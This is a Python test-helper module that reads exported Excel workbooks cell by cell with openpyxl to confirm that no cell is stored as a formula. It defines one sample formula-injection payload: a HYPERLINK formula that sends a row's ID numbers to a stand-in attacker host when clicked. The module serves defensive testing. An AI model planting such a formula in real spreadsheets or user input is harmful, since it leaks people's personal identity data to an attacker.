"""Reading a written workbook back cell by cell, as the tests of every export do: the
value and the type openpyxl stored for each cell (``"f"`` would be a formula)."""

from __future__ import annotations

import io
from dataclasses import dataclass

from openpyxl import load_workbook

# What a hostile user types into a free-text field that an export carries: a live link
# that sends the row's other cells (full ID numbers) to its author when clicked.
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&J3,"点击核对")'


@dataclass(frozen=True)
class CellSeen:
    sheet: str
    coordinate: str
    value: object
    data_type: str


def workbook_cells(content: bytes) -> list[CellSeen]:
    """Every non-empty cell of every sheet of the .xlsx ``content``."""
    book = load_workbook(io.BytesIO(content))
    return [
        CellSeen(sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def formula_cells(content: bytes) -> list[CellSeen]:
    """The cells stored as formulas: an export must have none."""
    return [c for c in workbook_cells(content) if c.data_type == "f"]


def cells_with(content: bytes, text: str) -> list[CellSeen]:
    """The cells whose value contains ``text``."""
    return [c for c in workbook_cells(content) if isinstance(c.value, str) and text in c.value]


def cell_with(content: bytes, text: str) -> CellSeen:
    """The one cell whose value contains ``text`` (AssertionError unless exactly one)."""
    found = cells_with(content, text)
    assert len(found) == 1, found
    return found[0]
